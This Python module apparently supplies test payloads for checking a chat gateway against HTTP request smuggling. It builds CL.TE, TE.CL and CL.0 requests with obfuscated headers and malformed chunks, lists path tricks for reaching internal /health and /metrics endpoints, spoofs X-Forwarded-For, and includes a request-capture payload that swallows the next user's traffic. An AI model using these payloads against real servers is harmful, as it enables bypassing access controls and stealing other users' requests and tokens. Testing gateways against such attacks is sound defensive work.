"""Requests whose end a proxy and a server may see in different places, each by the name of its attack; the smuggled request is put in."""

from __future__ import annotations

import uuid
from collections.abc import Callable

Attack = Callable[[bytes], bytes]
"""The bytes that are sent, from those that are to be smuggled behind the first request."""

HEAD = b"POST /webchat/session HTTP/1.1\r\nHost: chat.example\r\nContent-Type: application/json\r\n"
END = b"0\r\n\r\n"


def _with(*headers: bytes, body: bytes, head: bytes = HEAD) -> bytes:
    return head + b"".join(header + b"\r\n" for header in headers) + b"\r\n" + body


def _length(number: int) -> bytes:
    return b"Content-Length: %d" % number


def _chunk(content: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(content), content)


def _cl_te(name: bytes) -> Attack:
    """Who believes the length sees one request; who believes `name` sees two."""
    return lambda inner: _with(_length(len(END + inner)), name, body=END + inner)


def _te_cl(name: bytes) -> Attack:
    """Who believes `name` sees one request; who believes the length sees another one begin within the chunk."""

    def made(inner: bytes) -> bytes:
        size = b"%x\r\n" % len(inner)
        return _with(_length(len(size)), name, body=_chunk(inner) + END)

    return made


def _lengths(*values: bytes) -> Attack:
    """`%d` in a value is the length of what is smuggled, as a body of the first request."""
    return lambda inner: _with(*(b"Content-Length:" + value.replace(b"%d", b"%d" % len(inner)) for value in values), body=inner)


def _chunked(before: bytes) -> Attack:
    """A body of chunks that begins so; what is smuggled stands behind it."""
    return lambda inner: _with(b"Transfer-Encoding: chunked", body=before + inner)


def _first(request: bytes) -> Attack:
    """A whole first request, or what some take for one, and what is smuggled behind it."""
    return lambda inner: request + inner


def _carried(head: bytes) -> Attack:
    """What is smuggled is the body of a request whose body nobody wants."""
    return lambda inner: _with(_length(len(inner)), head=head + b"Host: chat.example\r\n", body=inner)


_OBFUSCATED = {
    "plain": b"Transfer-Encoding: chunked",
    "upper case": b"TRANSFER-ENCODING: CHUNKED",
    "unknown coding": b"Transfer-Encoding: xchunked",
    "identity": b"Transfer-Encoding: identity",
    "chunked, then identity": b"Transfer-Encoding: chunked, identity",
    "identity, then chunked": b"Transfer-Encoding: identity, chunked",
    "twice, the second unknown": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
    "twice, the first unknown": b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    "blank before the colon": b"Transfer-Encoding : chunked",
    "tab before the colon": b"Transfer-Encoding\t: chunked",
    "tab before the value": b"Transfer-Encoding:\tchunked",
    "vertical tab before the value": b"Transfer-Encoding:\x0bchunked",
    "no-break space before the value": b"Transfer-Encoding:\xa0chunked",
    "blank before the name": b" Transfer-Encoding: chunked",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "name folded": b"Transfer-Encoding\r\n : chunked",
    "behind a folded header": b"X-Folded: a\r\n b\r\nTransfer-Encoding: chunked",
    "behind a bare LF": b"X-Bare: a\nTransfer-Encoding: chunked",
    "behind a bare CR": b"X-Bare: a\rTransfer-Encoding: chunked",
    "underscore": b"Transfer_Encoding: chunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "NUL behind the value": b"Transfer-Encoding: chunked\0",
    "parameter": b"Transfer-Encoding: chunked;q=1",
    "comma in front": b"Transfer-Encoding: , chunked",
    "empty": b"Transfer-Encoding:",
    "named in Connection": b"Connection: close, Transfer-Encoding\r\nTransfer-Encoding: chunked",
}
_LENGTHS = {
    "two, the last is nothing": (b" %d", b" 0"),
    "two, the first is nothing": (b" 0", b" %d"),
    "two alike": (b" %d", b" %d"),
    "a list": (b" %d, %d",),
    "a list that differs": (b" 0, %d",),
    "plus": (b" +%d",),
    "minus": (b" -%d",),
    "hexadecimal": (b" 0x0",),
    "underscore between the digits": (b" 0_0",),
    "blank between the digits": (b" 0 0",),
    "other digits": (" ٠".encode(),),
    "with a fraction": (b" 0.0",),
    "more than a number can be": (b" 18446744073709551616",),
    "empty": (b"",),
    "folded": (b"\r\n 0",),
    "tab and blanks": (b"\t 0 \t",),
}
_CHUNKS = {
    "chunk extension": b'2;name="value"\r\n{}\r\n0;x\r\n\r\n',
    "chunk extension that ends in a bare LF": b"2;x\n{}\r\n0\r\n\r\n",
    "chunk extension with a line in quotes": b'2;x="\r\n{}\r\n0\r\n\r\n',
    "chunk extension with a bare CR": b"2;x\r{}\r\n0\r\n\r\n",
    "chunk extension without an end": b"2;" + b"x" * 70_000 + b"\r\n{}\r\n0\r\n\r\n",
    "chunk that ends in a bare LF": b"2\r\n{}\n0\r\n\r\n",
    "chunk with more than it says": b"2\r\n{}GET 0\r\n\r\n",
    "chunk whose end is two other characters": b"2\r\n{}xx0\r\n\r\n",
    "chunk size that ends in a bare LF": b"2\n{}\r\n0\n\n",
    "chunk size that ends in a bare CR": b"2\r{}\r\n0\r\r",
    "chunk size in 0x": b"0x2\r\n{}\r\n0x0\r\n\r\n",
    "chunk size with a plus": b"+2\r\n{}\r\n0\r\n\r\n",
    "chunk size below nothing": b"-2\r\n{}\r\n0\r\n\r\n",
    "chunk size with an underscore": b"0_2\r\n{}\r\n0\r\n\r\n",
    "chunk size with a blank in front": b" 2\r\n{}\r\n0\r\n\r\n",
    "chunk size with a blank behind": b"2 \r\n{}\r\n0 \r\n\r\n",
    "chunk size more than a number can be": b"FFFFFFFFFFFFFFFFF2\r\n{}\r\n0\r\n\r\n",
    "chunk size around the largest number": b"10000000000000002\r\n{}\r\n0\r\n\r\n",
    "chunk size of many noughts": b"0" * 3000 + b"2\r\n{}\r\n0\r\n\r\n",
    "chunk size empty": b"\r\n\r\n",
    "trailer with a length": b"2\r\n{}\r\n0\r\nContent-Length: 900\r\n\r\n",
    "trailer with an encoding": b"2\r\n{}\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "trailer that is a request": b"2\r\n{}\r\n0\r\nGET /health/ready HTTP/1.1\r\n\r\n",
    "trailer behind a bare LF": b"2\r\n{}\r\n0\r\nX: y\n\n",
}
_FIRST = {
    "HTTP/0.9": b"GET /widget.js\r\n",
    "HTTP/0.9 with a body": b"POST /webchat/session\r\n\r\n{}",
    "HTTP/1.0 with chunks": b"POST /webchat/session HTTP/1.0\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
    "HTTP/1.0 that is kept alive": b"POST /webchat/session HTTP/1.0\r\nConnection: keep-alive\r\nContent-Length: 2\r\n\r\n{}",
    "HTTP/1.2": b"GET /widget.js HTTP/1.2\r\nHost: chat.example\r\n\r\n",
    "HTTP/2.0 in a line": b"GET /widget.js HTTP/2.0\r\nHost: chat.example\r\n\r\n",
    "HTTP/9.9": b"GET /widget.js HTTP/9.9\r\nHost: chat.example\r\n\r\n",
    "h2c by its preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0",
    "h2c by an upgrade": (
        b"GET /widget.js HTTP/1.1\r\nHost: chat.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
        b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
    ),
    "h2c by an upgrade of a POST": (
        HEAD
        + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 2\r\n\r\n{}"
    ),
    "websocket that is refused": (
        b"GET /widget.js HTTP/1.1\r\nHost: chat.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 777\r\nSec-WebSocket-Key: x3JJHMbDL1EzLkh9GBhXDw==\r\n\r\n"
    ),
    "CONNECT": b"CONNECT 127.0.0.1:80 HTTP/1.1\r\nHost: 127.0.0.1:80\r\n\r\n",
    "PROXY protocol": b"PROXY TCP4 10.9.9.9 127.0.0.1 40000 80\r\nGET /widget.js HTTP/1.1\r\nHost: chat.example\r\n\r\n",
    "lines end in a bare LF": b"GET /widget.js HTTP/1.1\nHost: chat.example\n\n",
    "lines end in a bare CR": b"GET /widget.js HTTP/1.1\rHost: chat.example\r\r",
    "head ends in LF CR LF": b"GET /widget.js HTTP/1.1\r\nHost: chat.example\n\r\n",
    "request within the request line": b"GET /widget.js HTTP/1.1\r\nX: GET /health/ready HTTP/1.1\r\nHost: chat.example\r\n\r\n",
    "line break within the path": b"GET /webchat/x\rHTTP/1.1 HTTP/1.1\r\nHost: chat.example\r\n\r\n",
    "blank lines in front": b"\r\n\r\n\r\nGET /widget.js HTTP/1.1\r\nHost: chat.example\r\n\r\n",
    "two Hosts": b"GET /widget.js HTTP/1.1\r\nHost: chat.example\r\nHost: evil.example\r\n\r\n",
    "no Host": b"GET /widget.js HTTP/1.1\r\n\r\n",
    "header without a colon": b"GET /widget.js HTTP/1.1\r\nHost: chat.example\r\nGET /health/ready HTTP/1.1\r\n\r\n",
    "header without a name": b"GET /widget.js HTTP/1.1\r\nHost: chat.example\r\n: x\r\n\r\n",
    "NUL in a header": b"GET /widget.js HTTP/1.1\r\nHost: chat.example\r\nX: a\0b\r\n\r\n",
    "expectation without a body": HEAD + b"Expect: 100-continue\r\nContent-Length: 0\r\n\r\n",
    "expectation that nobody knows": HEAD + b"Expect: 100-continue, x\r\nContent-Length: 2\r\n\r\n{}",
    "answer in place of a request": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
}
_CARRIED = {
    "body of a GET": b"GET /widget.js HTTP/1.1\r\n",
    "body of a HEAD": b"HEAD /widget.js HTTP/1.1\r\n",
    "body of an OPTIONS": b"OPTIONS /webchat/session HTTP/1.1\r\n",
    "body of what is not allowed": b"POST /widget.js HTTP/1.1\r\n",
    "body of what is not there": b"POST /webchat/nothing HTTP/1.1\r\n",
    "body of who is not signed in": b"POST /webchat/logout HTTP/1.1\r\n",
    "body of a method of one's own": b"SMUGGLE /webchat/session HTTP/1.1\r\n",
    "body behind an expectation": b"POST /widget.js HTTP/1.1\r\nExpect: 100-continue\r\n",
}

ATTACKS: dict[str, Attack] = {
    **{f"CL.TE, {name}": _cl_te(header) for name, header in _OBFUSCATED.items()},
    **{f"TE.CL, {name}": _te_cl(header) for name, header in _OBFUSCATED.items()},
    **{f"Content-Length, {name}": _lengths(*values) for name, values in _LENGTHS.items()},
    **{name: _chunked(before) for name, before in _CHUNKS.items()},
    **{name: _first(request) for name, request in _FIRST.items()},
    **{f"CL.0, {name}": _carried(head) for name, head in _CARRIED.items()},
}

PIPELINED = frozenset(
    {
        "TE.CL, underscore",
        "Content-Length, tab and blanks",
        "chunk extension",
        "chunk extension without an end",
        "chunk size of many noughts",
        "HTTP/1.0 that is kept alive",
        "websocket that is refused",
        "CONNECT",
        "request within the request line",
        "blank lines in front",
        "expectation without a body",
        "expectation that nobody knows",
    }
)
"""Clear to every reader, a whole request and another one behind it: the gateway may answer both, each as what it is."""

HIDDEN_PATHS = [
    "/health/ready",
    "//health/ready",
    "/health//ready",
    "/./health/ready",
    "/webchat/../health/ready",
    "/webchat/%2e%2e/health/ready",
    "/webchat/..%2fhealth/ready",
    "/health%2fready",
    "/%68ealth/ready",
    "/health/ready?x",
    "/health/ready#x",
    "/health/ready/",
    "/health/ready%00",
    "/health/ready%23",
    "/health/ready%3f",
    "/webchat/..;/health/ready",
    "/health;/ready",
    "\\health\\ready",
    "/HEALTH/ready",
    "http://chat.example/health/ready",
    "http://127.0.0.1/metrics",
    "/metrics",
    "//metrics",
    "/metrics/",
    "/metrics%20",
    "/%6detrics",
    "/x/../metrics",
    "/webchat/stream/../../metrics",
    "*",
]
"""Ways to write the addresses that nobody outside may see."""

CLAIMS: dict[str, bytes] = {
    "once": b"X-Forwarded-For: 10.9.9.9\r\n",
    "twice": b"X-Forwarded-For: 10.9.9.9\r\nX-Forwarded-For: 10.8.8.8\r\n",
    "in small letters": b"x-forwarded-for: 10.9.9.9\r\n",
    "as the proxy itself": b"X-Forwarded-For: 127.0.0.1\r\n",
    "as a list with the proxy": b"X-Forwarded-For: 10.9.9.9, 127.0.0.1\r\n",
    "as a list of five hundred": b"X-Forwarded-For: " + b"10.9.9.9, " * 499 + b"10.9.9.9\r\n",
    "as nothing": b"X-Forwarded-For:\r\n",
    "with an underscore": b"X_Forwarded_For: 10.9.9.9\r\n",
    "with a blank before the colon": b"X-Forwarded-For : 10.9.9.9\r\n",
    "folded": b"X-Forwarded-For:\r\n 10.9.9.9\r\n",
    "folded behind another": b"X-Other: a\r\n X-Forwarded-For: 10.9.9.9\r\n",
    "behind a bare LF": b"X-Other: a\nX-Forwarded-For: 10.9.9.9\r\n",
    "behind a bare CR": b"X-Other: a\rX-Forwarded-For: 10.9.9.9\r\n",
    "with a NUL": b"X-Forwarded-For\0: 10.9.9.9\r\n",
    "named in Connection, so that the proxy's own is taken away": b"Connection: close, X-Forwarded-For\r\nX-Forwarded-For: 10.9.9.9\r\n",
    "as Forwarded": b'Forwarded: for=10.9.9.9;proto=https, for="[2001:db8::9]"\r\n',
    "under the names of other proxies": b"X-Real-IP: 10.9.9.9\r\nTrue-Client-IP: 10.9.9.9\r\nCF-Connecting-IP: 10.9.9.9\r\nX-Client-IP: 10.9.9.9\r\n",
}
"""Header lines by which a client would be at another address."""


def hidden_request(_token: str) -> bytes:
    """For what the proxy refuses to everybody."""
    return b"GET /health/ready HTTP/1.1\r\nHost: chat.example\r\n\r\n"


def catching_request(token: str) -> bytes:
    """A message of the attacker's that is not finished: whatever follows on the same connection would be its text."""
    body = f'{{"id":"{uuid.uuid4()}","text":"'
    head = f"POST /webchat/messages HTTP/1.1\r\nHost: chat.example\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\n"
    return f"{head}Content-Length: 700\r\n\r\n{body}".encode()
